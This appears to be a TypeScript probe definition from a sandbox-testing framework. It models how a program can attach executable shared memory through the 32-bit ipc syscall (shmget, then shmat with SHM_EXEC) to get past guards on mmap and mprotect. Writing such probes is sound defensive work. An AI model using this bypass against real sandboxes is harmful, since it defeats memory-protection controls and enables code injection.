/**
 * Attaches executable shared memory by the call that stands for all about IPC. It takes the flags second, where to write the address
 * third, and the address last. Facts: ipc(2), compat_ksys_ipc() in the kernel's ipc/syscall.c.
 */
import { SHM_FLAGS } from "../../kernel/memory-flags.ts";
import { routeOf } from "../../kernel/syscalls/multiplexer.ts";
import { callThrough, number, resultOf, room, step } from "../act.ts";
import { onAbi } from "../other-abi.ts";
import type { Probe } from "../probe.ts";

const IPC_PRIVATE = 0;

/** The attack: executable shared memory through ipc. */
export const attachExecutableThroughIpc: Probe = {
  id: "attach-executable-through-ipc",
  title: "attach shared memory as executable, through ipc of the kernel's 32-bit interface",
  gain: "Injected code, around the guards on mmap and mprotect.",
  goals: ["own-program"],
  steps: (machine) =>
    onAbi(machine, "i386", () => {
      const which = (name: string) => number(routeOf("i386", name)?.selector ?? 0);
      const get = [which("shmget"), number(IPC_PRIVATE), number(4096), number(0o700), number(0)];
      const attach = [which("shmat"), resultOf("get"), number(SHM_FLAGS.SHM_EXEC), room(16), number(0)];
      return [
        step("get", callThrough("i386", "ipc", ...get)),
        step("attach", callThrough("i386", "ipc", ...attach), [
          { kind: "memory", operation: "attach", writable: true, executable: true },
        ]),
      ];
    }),
};
